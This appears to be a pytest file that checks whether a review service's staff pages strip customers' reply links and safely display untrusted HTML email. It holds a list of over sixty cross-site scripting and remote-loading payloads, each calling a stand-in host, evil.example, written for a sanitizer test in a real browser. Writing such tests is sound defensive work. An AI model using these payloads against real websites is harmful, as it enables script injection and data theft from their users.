"""Other people's mail on a page of ours: no script runs, nothing is loaded, and no press acts as the customer."""

import time
from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path

import pytest
from playwright.async_api import Page, Request, async_playwright

from bench.ports import free_port
from reviews import flow
from reviews.events import Incoming
from reviews.facts import Message, Review
from reviews.links import Links
from reviews.mail import read_mail
from reviews.model import Envelope
from reviews.redacted import ADDRESS_OUT, LINK_OUT, Ours, leads_to_us, without_ours
from reviews.tokens import Keys
from store import people
from tests.story import ADA, RULES, SECRETS, later, mail
from tests.web_house import House, opened_house, served
from web.staff.letters import HTML_CHARS_MAX, cleaned_html, letter

OURS = Ours("care.acme.example", "reply.acme.example")
LINKS = Links(Keys(SECRETS), "https://care.acme.example", "reply.acme.example")
VIEW = LINKS.view("a" * 26)
ADDRESS = "v+gabcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst@reply.acme.example"

WRAPPED = {
    "as it is": VIEW,
    "between signs": f"<{VIEW}>",
    "in a sentence": f"see {VIEW}.",
    "in capitals": VIEW.upper(),
    "behind a filter": f"https://eur01.links.example/?url={VIEW.replace(':', '%3A').replace('/', '%2F')}&data=1",
    "behind two": f"https://a.example/?u=https%253A%252F%252Fcare.acme.example%252Fv%252F{VIEW[-20:]}",
    "with underscores": f"https://urldefense.example/v2/url?u={VIEW.replace(':', '-3A').replace('/', '_')}&d=x",
    "between underscores": f"https://urldefense.example/v3/__{VIEW}__;!!abc",
    "an address": ADDRESS,
    "a mailto": f"mailto:{ADDRESS}?subject=Great",
    "a folded mailto": f"MAILTO:{ADDRESS.upper()}",
    "an encoded mailto": f"mailto:{ADDRESS.replace('+', '%2B').replace('@', '%40')}",
}
LEFT = [
    "https://example.org/r/abc",
    "https://care.acme.example/",
    "care@acme.example",
    "bob+lists@reply.acme.example",
    "words",
    "a" * 50_000,
]


@pytest.mark.parametrize("text", WRAPPED.values(), ids=WRAPPED)
def test_what_only_the_customer_may_press_is_taken_out(text: str) -> None:
    told = without_ours(f"before {text} after", OURS)
    assert told.startswith("before")
    assert told.endswith("after")
    assert LINK_OUT in told or ADDRESS_OUT in told
    assert VIEW[-20:].lower() not in told.lower()
    assert ADDRESS[:20].lower() not in told.lower()
    assert leads_to_us(text, OURS)


@pytest.mark.parametrize("text", LEFT)
def test_all_other_words_stay(text: str) -> None:
    assert without_ours(text, OURS) == text


def test_taking_out_takes_time_in_proportion() -> None:
    begun = time.thread_time()
    without_ours(("%25" * 3_000 + "care.acme.example/" * 400 + " ") * 20, OURS)
    assert time.thread_time() - begun < 6


def test_no_link_of_ours_is_left_in_a_page() -> None:
    html = "".join(f'<p title="{text}"><a href="{text}">Great {text}</a></p>' for text in WRAPPED.values())
    cleaned = cleaned_html(html, OURS, pictures={})
    assert VIEW[-20:].lower() not in cleaned.lower()
    assert ADDRESS[:20].lower() not in cleaned.lower()
    assert (
        cleaned_html('<a href="https://example.org/log">log</a>', OURS, pictures={}).count("https://example.org/log")
        == 1
    )


def test_a_picture_from_elsewhere_is_a_link_to_it_and_one_that_came_along_is_shown() -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    raw = f"""Subject: x\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n
<img src="cid:one@x"><img src="cid:two@x" alt="two"><img src="https://t.example/p.png" alt="chart">\r\n--b
Content-Type: image/png; name=a.png\nContent-ID: <one@x>\nContent-Transfer-Encoding: base64\n\n{png}\n--b
Content-Type: image/png; name=b.png\nContent-ID: <two@x>\n\n<svg onload=alert(1)>\n--b--\n"""
    page = letter(read_mail(raw.encode()), OURS)
    assert page.count("<img") == 1
    assert f"data:image/png;base64,{png}" in page
    assert '<a href="https://t.example/p.png"' in page
    assert "open original" in page
    assert "svg" not in page


@pytest.mark.parametrize("opening", ["<div>", "<b>", "<table><tbody><tr><td><i>", "<blockquote>", "<font><u>"])
def test_what_is_too_deep_is_shown_as_text_and_soon(opening: str) -> None:
    begun = time.thread_time()
    cleaned = cleaned_html(opening * (HTML_CHARS_MAX // len(opening)) + "words", OURS, pictures={})
    assert time.thread_time() - begun < 6
    assert cleaned == ""


# sixty and more ways to run a script or to load something, in a real browser

URL = "http://evil.example/x"
JS = "document.title='ran';fetch('http://evil.example/ran')"
ATTACKS = [
    f"<script>{JS}</script>",
    f"<script src={URL}></script>",
    f"<SCRIPT/SRC={URL}></SCRIPT>",
    f"<scr<script>ipt>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"<img src={URL}>",
    f"<img srcset='{URL} 1x, {URL}2 2x'>",
    f"<img/src=x/onerror={JS}>",
    f'<IMG """><script>{JS}</script>">',
    f"<picture><source srcset={URL}><img src={URL}></picture>",
    f'<svg onload="{JS}">',
    f"<svg><script>{JS}</script></svg>",
    f"<svg><image href={URL} /></svg>",
    f"<svg><use href='{URL}#x'></use></svg>",
    f'<svg><animate onbegin="{JS}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>',
    f'<svg><foreignObject><iframe src="javascript:{JS}"></iframe></foreignObject></svg>',
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
    f'<math><mi//xlink:href="data:x,<script>{JS}</script>">',
    f"<math><annotation-xml encoding='text/html'><script>{JS}</script></annotation-xml></math>",
    f'<body onload="{JS}">',
    f"<body background={URL}>",
    f"<iframe src={URL}></iframe>",
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<object data={URL}></object>",
    f'<object data="data:text/html,<script>{JS}</script>"></object>',
    f"<embed src={URL}>",
    f"<applet code={URL}></applet>",
    f"<link rel=stylesheet href={URL}>",
    f"<link rel=prefetch href={URL}><link rel=dns-prefetch href={URL}><link rel=preconnect href={URL}>",
    f"<link rel=icon href={URL}>",
    f"<style>@import url({URL});body{{background:url({URL})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({URL})}}p{{font-family:x}}</style><p>x",
    f'<p style="background:url({URL})">x',
    f"<p style=\"background-color:red;background-image:url('{URL}')\">x",
    f'<p style="list-style:url({URL});content:url({URL})">x',
    f'<p style="width:expression({JS})">x',
    f"<p style='font-family:\"</style><script>{JS}</script>\"'>x",
    f'<div style="color:red;}}body{{background:url({URL})">x</div>',
    f'<meta http-equiv=refresh content="0;url={URL}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{JS}">',
    '<meta http-equiv=content-security-policy content="default-src *"><img src=http://evil.example/x>',
    f"<base href={URL}/><img src=y>",
    f'<video src={URL} autoplay onerror="{JS}"></video>',
    f"<video poster={URL}></video>",
    f'<audio src={URL} autoplay onerror="{JS}"></audio>',
    f'<video><source onerror="{JS}" src={URL}></video>',
    f"<track src={URL}>",
    f'<input autofocus onfocus="{JS}">',
    f"<input type=image src={URL}>",
    f'<select autofocus onfocus="{JS}"><option>x</select>',
    f'<textarea autofocus onfocus="{JS}">x</textarea>',
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    f'<marquee onstart="{JS}">x</marquee>',
    f'<form action={URL}><button autofocus onfocus="{JS}">x</button></form>',
    f'<form id=f action={URL}></form><button form=f formaction="javascript:{JS}">x</button>',
    f'<a href="javascript:{JS}">press</a>',
    f'<a href=" &#14; javascript:{JS}">press</a>',
    f'<a href="java&#x0A;script:{JS}">press</a>',
    f'<a href="data:text/html,<script>{JS}</script>">press</a>',
    f'<a href="vbscript:{JS}">press</a>',
    f'<a href=# onclick="{JS}">press</a>',
    f"<a ping={URL} href=#x>press</a>",
    f"<table background={URL}><td background={URL}>x</td></table>",
    f'<frameset><frame src="javascript:{JS}"></frameset>',
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    f"<template><script>{JS}</script></template>",
    f'<xmp><p title="</xmp><script>{JS}</script>"></xmp>',
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<!--><script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<?xml version=1?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>",
    f"<title></title><script>{JS}</script>",
    f'<p id=x tabindex=0 onfocus="{JS}" contenteditable>x</p>',
    f"<portal src={URL}></portal><fencedframe src={URL}></fencedframe>",
    f"<bgsound src={URL}><isindex action={URL}>",
    '<img src="cid:x" onerror="' + JS + '">',
    f"</pre></body></html><script>{JS}</script>",
    "\x00<scr\x00ipt>" + JS + "</script>",
]


@pytest.fixture
async def house(tmp_path: Path) -> AsyncIterator[House]:
    async with opened_house(tmp_path, base_url=f"http://127.0.0.1:{free_port()}") as house:
        yield house


async def kept(house: House, review: Review, html: str, number: int) -> str:
    """A mail of that HTML in the record; its address."""
    head = f"From: {ADA.email}\r\nSubject: {html[:80]!r}\r\nContent-Type: text/html; charset=utf-8"
    raw = f"{head}\r\n\r\n{html}\r\n".encode()
    envelope = Envelope(later(hours=2), "192.0.2.1", "mx", ADA.email, ("r@x",), tls=True)
    sha256 = await house.store.keep_mail(id=f"arrival {number}", envelope=envelope, raw=raw)
    message: Incoming = mail(f"words {number} {html}", mail=sha256, message_id=f"{number}@customer.example")
    await house.store.record(review.id, partial(flow.replied, mail=message, at=later(hours=2), rules=RULES))
    return f"/reviews/{review.id}/mails/{sha256}"


async def signed_in(house: House) -> None:
    lea = await house.add_staff()
    session = partial(people.use_sign_in, id="s.b", session_id="session", expires_at=later(days=9), now=house.clock.now)
    await house.store.write(
        partial(people.add_sign_in, id="s.b", email=lea.email, client="c", expires_at=later(days=2))
    )
    await house.store.write(session)


async def tried(page: Page, asked: list[str], origin: str, path: str) -> list[str]:
    """What a page did that it must not: the requests it made elsewhere, and whether a script ran."""
    asked.clear()
    await page.goto(origin + path, wait_until="load")
    for link in (await page.query_selector_all("a"))[:2] if path.endswith("/letter") else ():
        if (await link.get_attribute("href") or "").startswith(("http", "mailto")):
            continue  # what a reader follows leads elsewhere, and says so
        await link.evaluate("link => link.click()")
    ran = [await page.title()] if await page.title() == "ran" else []
    return ran + [url for url in asked if not url.startswith((f"{origin}/", "data:"))]


@pytest.mark.browser
async def test_no_script_of_a_mail_runs_and_no_request_leaves(house: House, chromium: str) -> None:
    review = await house.asked()
    await signed_in(house)
    places = [await kept(house, review, html, number) for number, html in enumerate(ATTACKS)]
    assert len(ATTACKS) >= 60
    assert len((await house.log(review)).of(Message)) == len(ATTACKS)
    asked: list[str] = []

    def noted(request: Request) -> None:
        asked.append(request.url)

    origin = house.links.base_url
    async with served(house.door, port=int(origin.rpartition(":")[2])), async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        context = await browser.new_context()
        await context.add_cookies([{"name": "afterword", "value": "session", "url": origin}])
        page = await context.new_page()
        context.on("request", noted)
        for html, place in zip(ATTACKS, places, strict=True):
            assert await tried(page, asked, origin, f"{place}/letter") == [], html
            assert await tried(page, asked, origin, place) == [], html
        asked.clear()
        await page.goto(f"{origin}/reviews/{review.id}", wait_until="load")
        await page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
        await page.wait_for_timeout(1_000)
        assert await page.title() != "ran"
        assert [url for url in asked if not url.startswith(f"{origin}/")] == []
        assert sum(url.endswith("/letter") for url in asked) > 2
        await browser.close()


async def test_a_mail_is_shown_under_a_policy_of_its_own(house: House) -> None:
    review = await house.asked()
    place = await kept(house, review, f'<a href="{LINKS.view(review.id)}">Great</a> <b>words</b>', 1)
    assert (await house.client.get(f"{place}/letter")).headers["location"] == "/sign-in"
    await signed_in(house)
    cookie = {"Cookie": "afterword=session"}
    answer = await house.client.get(f"{place}/letter", headers=cookie)
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert "<b>words</b>" in answer.text
    for path in (f"/reviews/{review.id}/mails/{'0' * 64}", f"/reviews/{'a' * 26}/mails/{place[-64:]}/letter"):
        assert (await house.client.get(path, headers=cookie)).status_code == 404


async def test_nothing_staff_see_of_a_forwarded_reply_can_act_as_the_customer(house: House) -> None:
    """The reply quotes the question with its faces; record, trimmed part, frame and raw view are looked through."""
    review = await house.asked()
    view, unsubscribe = house.links.view(review.id), house.links.unsubscribe(review.id)
    faces = [f"{view.rpartition('/v/')[0]}/r/{'x' * 40}", f"v+g{'a' * 51}@reply.acme.example", view, unsubscribe]
    html = "".join(f'<a href="{face}">Great</a> {face}' for face in faces)
    place = await kept(house, review, html, 1)
    quoted = mail("See below.", message_id="2@x", trimmed="\n".join(f"> {face}" for face in faces), mail="other")
    await house.store.record(review.id, partial(flow.replied, mail=quoted, at=later(hours=2), rules=RULES))
    await signed_in(house)
    for path in (f"/reviews/{review.id}", place, f"{place}/letter"):
        answer = await house.client.get(path, headers={"Cookie": "afterword=session"})
        assert answer.status_code == 200
        for face in faces:
            assert face[-30:] not in answer.text, path
        assert LINK_OUT in answer.text
